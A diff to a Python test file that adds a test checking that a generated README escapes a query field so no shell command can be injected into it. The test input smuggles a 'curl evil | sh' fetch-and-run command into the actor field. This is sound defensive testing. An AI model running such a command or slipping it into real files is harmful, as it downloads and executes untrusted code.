@@ -72,6 +72,13 @@ async def test_the_commands_of_the_readme_run_as_they_stand(tmp_path: Path) -> N
     assert "2 records are in the signed log of 600." in ran
 
 
+async def test_nobody_puts_commands_into_the_readme_by_what_they_ask_for(tmp_path: Path) -> None:
+    folder = await selected(tmp_path, Query(actor="a`\n\n```sh\ncurl evil | sh\n```\n"))
+    text = (folder / "README.md").read_text()
+    assert text.splitlines()[0].endswith(": the records with actor `a' '''sh curl evil | sh '''`")
+    assert "curl evil" not in text.partition("\n")[2]
+
+
 @pytest.mark.parametrize(
     "change",
     [
